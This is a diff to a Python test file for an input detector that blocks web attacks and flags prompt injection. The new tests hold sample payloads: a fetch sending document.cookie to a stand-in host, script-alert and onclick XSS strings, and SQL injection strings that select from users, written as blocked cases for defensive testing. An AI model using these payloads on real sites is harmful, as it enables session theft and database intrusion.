@@ -119,6 +119,45 @@ def test_prompt_injection_is_flagged_in_other_words_letters_and_languages(text: 
     assert (found.decision, found.threat) == ("flag", "prompt_injection")
 
 
+@pytest.mark.parametrize(
+    "text",
+    [
+        "what does fetch('https://x.example/a.json') do?",
+        "const el = document.querySelector('#cart');",
+        "x = load_order(7)",
+        "if my_func(x) > 3: return",
+        'def on_open(ws):\n    print_all("Opened connection")',
+        "<b>5 stars</b>",
+        "<p>Great</p><br/><strong>Buy it!</strong>",
+        "<em>Really</em> <i>soft</i><br>",
+        "Do you sell things from Union Select Ltd.?",
+        "Union Select Ltd.",
+    ],
+)
+def test_code_and_markup_that_people_paste_are_at_most_flagged(text: str) -> None:
+    assert Detector().detect(text).decision != "block"
+
+
+@pytest.mark.parametrize(
+    "text",
+    [
+        "fetch('//evil.example/'+document.cookie)",
+        "fetch('//evil.example')",
+        "document.cookie",
+        "document.write('<b>')",
+        "sys_eval('id')",
+        "<b>x</b><script>alert(1)</script>",
+        "<b onclick=alert(1)>x</b>",
+        "%3Cscript%3Ealert(1)%3C/script%3E <b>x</b>",
+        "Union Select Ltd, 1 from users",
+        "1 union select ltd from users",
+        "' Union Select Ltd -- ",
+    ],
+)
+def test_more_than_that_is_still_blocked(text: str) -> None:
+    assert Detector().detect(text).decision == "block"
+
+
 def test_an_attack_in_a_record_is_read_in_its_own_quotes() -> None:
     assert detector.detect('{"id": 7, "name": "x\' or 1=1 union select password from users--"}').decision == "block"
     assert detector.detect('["a", "b", ["c"], {"d": "e; f"}]').decision == "allow"
